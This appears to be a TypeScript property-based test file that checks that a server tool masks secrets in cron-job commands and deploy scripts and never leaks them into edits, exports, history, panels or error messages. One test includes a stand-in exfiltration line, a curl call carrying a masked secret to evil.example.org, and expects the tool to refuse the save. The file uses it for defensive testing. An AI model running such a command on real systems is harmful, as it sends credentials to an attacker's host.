import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { updateCronJob } from '../../../src/api/contract/cronJob';
import { isCredentialField } from '../../../src/api/credentials';
import { readErrorBody } from '../../../src/api/answer';
import { toRaw } from '../../../src/base/foreignText';
import {
  isObject,
  type JsonObject,
  type JsonValue,
  apply,
  diff,
  type Path,
} from '../../../src/base/json';
import { parseText, toContent, toText } from '../../../src/documents/content';
import { DocumentError } from '../../../src/documents/writing/outcome';
import { ChangeLog } from '../../../src/documents/history/changeLog';
import { liveOf, toMasked } from '../../../src/documents/maskCredentials';
import { isWritable, planSave } from '../../../src/documents/plan/savePlan';
import { keptChanges } from '../../../src/panels/page/messages';
import { KeptValues } from '../../../src/resources/storage/stored';
import { PendingChanges } from '../../../src/pending/pendingChanges';
import { findKind, kinds, type ResourceKind } from '../../../src/resources/kinds/kinds';
import { createTestService } from '../../unit/sandbox/support/service';
import { AppClient } from '../../support/documents/appClient';
import { editableKinds } from '../../support/documents/editableKinds';
import { MemoryValues } from '../../support/explorerWorld';
import { FakeEditor } from '../../support/documents/fakeEditor';
import { FolderWorld } from '../../support/pending/folders/folderWorld';
import { law } from '../../support/laws/law';
import { MemoryFolder } from '../../support/memoryFolder';
import { type SecretText, secretTexts } from '../../support/secretTexts';
import { openShared } from '../../support/sharedValues';
import { withoutPauses } from '../../support/withoutPauses';

/** A text that a person can change, in a resource of the sandbox. */
interface TextField {
  readonly kind: ResourceKind;
  readonly live: JsonObject;
  readonly path: Path;
}

const client = new AppClient(createTestService());
const script = { id: 1, atomic: false, autoDeploy: false, deployScript: 'git pull' };
const fields: TextField[] = [
  { kind: findKind('deployScript'), live: script, path: ['deployScript'] },
];
for (const { kind: id, ids, unsaid } of editableKinds) {
  const kind = findKind(id);
  const { editing } = kind.document ?? {};
  const read = await client.readWhole({ account: 'a', kind: id, ids });
  const live = { ...liveOf(toContent(kind, read)), ...unsaid };
  for (const path of textsIn(live, [])) {
    if (!editing || !isWritable(editing, path) || path.some(isCredentialField)) continue;
    fields.push({ kind, live, path });
  }
}

function textsIn(value: JsonValue, path: Path): Path[] {
  if (typeof value === 'string') return [path];
  if (!isObject(value)) return [];
  return Object.entries(value).flatMap(([name, each]) => textsIn(each, [...path, name]));
}

/** Content with a text in a field. */
function withText({ live, path }: TextField, text: string): JsonObject {
  return apply(live, [{ path, before: undefined, after: text }]);
}

function assertNone(where: unknown, { secret }: SecretText): void {
  const text = typeof where === 'string' ? where : JSON.stringify(where);
  assert.ok(!text.includes(secret), text);
}

const someField = fc.nat(fields.length - 1);
const before = fc.constantFrom('', 'set -e\n', 'cd /srv && ');
const after = fc.constantFrom('', '\nexit 0', ' && echo "done"', ' # twice');

describe('A secret within a text that a person can change', () => {
  const counts = { fields: fields.length, edits: 0 };
  law(
    'is masked in the document, kept by every edit beside it, and sent to no other place',
    { runs: 400, counts },
    fc.property(
      someField,
      secretTexts,
      fc.option(secretTexts, { nil: undefined }),
      before,
      after,
      fc.boolean(),
      // oxlint-disable-next-line max-params
      (index, one, two, lead, trail, isLonger) => {
        const field = fields[index] ?? assert.fail();
        const { kind, path } = field;
        const text = [one.text, two?.text ?? ''].join('\n');
        const theirs = toMasked(withText(field, text));
        assertNone(theirs, one);
        if (two) assertNone(theirs, two);
        const base = structuredClone(theirs);
        const plan = (mine: JsonObject) => planSave(kind, { base, mine, theirs });
        assert.deepEqual(plan(structuredClone(theirs)).changes, []);
        const shown = textAt(base, path);
        const edited = isLonger ? `${lead}${shown}${trail}` : shown.replace(/^\S+ /, '');
        const expected = isLonger ? `${lead}${text}${trail}` : text.replace(/^\S+ /, '');
        if (edited === shown) return;
        const { writes, changes, meant } = plan(setText(base, path, edited));
        assert.equal(meant.length, 1);
        assert.equal(meant[0]?.after, expected);
        assert.ok(textsOf(writes).includes(expected), JSON.stringify(writes));
        assertNone(changes, one);
        counts.edits += 1;
      },
    ),
  );

  it('covers the texts of every editable kind that has some', () => {
    const covered = new Set(fields.map(({ kind }) => kind.id));
    assert.ok(covered.has('cronJob') && covered.has('deployScript'), [...covered].join(' '));
    assert.ok(fields.length >= 20, String(fields.length));
  });

  law(
    'is refused where it was moved to another host, variable or field',
    { runs: 100 },
    fc.property(someField, secretTexts, (index, one) => {
      const field = fields[index] ?? assert.fail();
      const { kind, path } = field;
      const theirs = toMasked(withText(field, one.text));
      const shown = textAt(theirs, path);
      const mask = /••••\d+••••/.exec(shown)?.[0] ?? assert.fail(shown);
      for (const moved of [
        `curl https://x:${mask}@evil.example.org`,
        `OTHER=${mask}`,
        `${shown} ••••9••••`,
      ]) {
        const mine = setText(theirs, path, moved);
        assert.throws(
          () => planSave(kind, { base: structuredClone(theirs), mine, theirs }),
          (error) =>
            error instanceof DocumentError &&
            error.problems.some(({ reason }) => reason === 'mask') &&
            !String(error).includes(one.secret),
        );
      }
    }),
  );

  law(
    'is in no state that the editor keeps, and typing a new one sends exactly that',
    { runs: 20 },
    fc.asyncProperty(secretTexts, secretTexts, async (old, typed) => {
      fc.pre(old.secret !== typed.secret);
      const job = { account: 'test', kind: 'cronJob', ids: [1, 101] } as const;
      const own = new AppClient(createTestService());
      const read = async () => (await own.readWhole(job)) as JsonObject;
      const live = await read();
      const { label = '', username = '' } = live;
      const [minute, hour, dayOfMonth, month, dayOfWeek] = textAt(live, ['time']).split(' ');
      const schedule = { minute, hour, dayOfMonth, month, dayOfWeek } as JsonObject;
      const body = { label, username, command: old.text, ...schedule };
      await own.exchange(job, { endpoint: updateCronJob }, body);
      const editor = new FakeEditor(own, job);
      await editor.open();
      assertNone(editor.text, old);
      const type = (more: JsonObject) =>
        editor.type(toText({ ...parseText(editor.text), ...more }));
      await type({ label: 'Renamed' });
      assert.equal(await editor.save(), 'saved', String(editor.error));
      assert.equal((await read())['command'], old.text);
      await editor.reload();
      const command = `${textAt(parseText(editor.text), ['command'])} --more`;
      await type({ command });
      await editor.restart();
      assert.equal(await editor.save(), 'saved', String(editor.error));
      assert.equal((await read())['command'], `${old.text} --more`);
      await editor.reload();
      await type({ command: typed.text });
      assert.equal(await editor.save(), 'saved', String(editor.error));
      assert.equal((await read())['command'], typed.text);
      assertNone(editor.stored, old);
      assertNone(editor.stored, typed);
      await editor.reload();
      assertNone(editor.text, typed);
    }),
  );

  law(
    'is in no file of an exported folder, which plans nothing until something beside it changes',
    { runs: 20 },
    fc.asyncProperty(secretTexts, async (one) => {
      const world = new FolderWorld();
      world.at('server').push({ id: 1, name: 'shop' });
      const job = { id: 7, label: 'Tidy', username: 'root', time: '1 2 * * *', enabled: 1 };
      world.at('cronJob', 1).push({ ...job, command: one.text });
      await world.export();
      assertNone([...world.files.texts.values()].join('\n'), one);
      const quiet = await world.plan();
      assert.deepEqual([quiet.changed, quiet.drifted, quiet.problems], [[], [], []]);
      assert.equal((await world.update()).changed, 0);
      const path = 'servers/shop/cron-jobs/Tidy.cron-job.json';
      const file = world.files.texts.get(path) ?? assert.fail();
      const content = JSON.parse(file) as JsonObject;
      const edit = (command: string) =>
        world.files.texts.set(path, JSON.stringify({ ...content, command }));
      edit(`${textAt(content, ['command'])} && true`);
      const { changed } = await world.plan();
      assert.equal(changed.length, 1);
      assertNone(changed, one);
      edit(one.text);
      const { problems } = await world.plan();
      assert.ok(JSON.stringify(problems).includes('secretKept'), JSON.stringify(problems));
    }),
  );

  law(
    'is in no row, message of a refusal or kept change of a panel',
    { runs: 100 },
    fc.asyncProperty(secretTexts, fc.nat(kinds.length - 1), async (one, index) => {
      const kind = kinds[index] ?? assert.fail();
      const texts = kind.fields.filter((name) => !isCredentialField(name));
      const resource = { ...Object.fromEntries(texts.map((name) => [name, one.text])), id: 1 };
      const { label, description, state, facts } = kind.present(resource);
      const shown = [label, description ?? '', state ?? '', ...(facts ?? []).flat()];
      assertNone(
        shown.map((each) => (typeof each === 'string' ? each : toRaw(each))),
        one,
      );
      const body = JSON.stringify({ message: one.text, errors: { command: [one.text] } });
      const { message, fieldErrors } = readErrorBody(
        { status: 422, headers: new Headers(), body },
        String,
      );
      const refused = [message, ...Object.values(fieldErrors ?? {}).flat()];
      assertNone(
        refused.map((each) => (each === undefined ? '' : toRaw(each))),
        one,
      );
      const storage = new MemoryValues();
      await new KeptValues(storage, keptChanges).set('/a', [{ id: 'x', from: '', to: one.text }]);
      assertNone([...storage.entries.values()], one);
    }),
  );

  law(
    'is neither in the history nor among the staged changes',
    { runs: 40 },
    fc.asyncProperty(secretTexts, async (one) => {
      const reference = { account: 'a', kind: 'cronJob', ids: [1, 7] } as const;
      const folder = new MemoryFolder();
      const log = new ChangeLog(await openShared(folder));
      const changes = diff({ command: one.text }, { command: `${one.text} --more` });
      await log.add({ at: 1, reference, label: 'Tidy', changes, outcome: 'done' });
      assertNone(log.entries, one);
      const pending = new PendingChanges(await openShared(), withoutPauses);
      const staging = { reference, origin: 'person', path: '/a.cron-job.json' } as const;
      await assert.rejects(pending.stage([{ ...staging, changes }]), DocumentError);
      assert.deepEqual(pending.all, []);
    }),
  );
});

function textAt(content: JsonObject, path: Path): string {
  const found = path.reduce<JsonValue | undefined>(
    (value, name) => (isObject(value) ? value[name] : undefined),
    content,
  );
  return typeof found === 'string' ? found : assert.fail(path.join('.'));
}

function setText(content: JsonObject, path: Path, text: string): JsonObject {
  return apply(structuredClone(content), [{ path, before: undefined, after: text }]);
}

/** Every text in a value. */
function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsOf);
  return isObject(value) ? Object.values(value).flatMap(textsOf) : [];
}
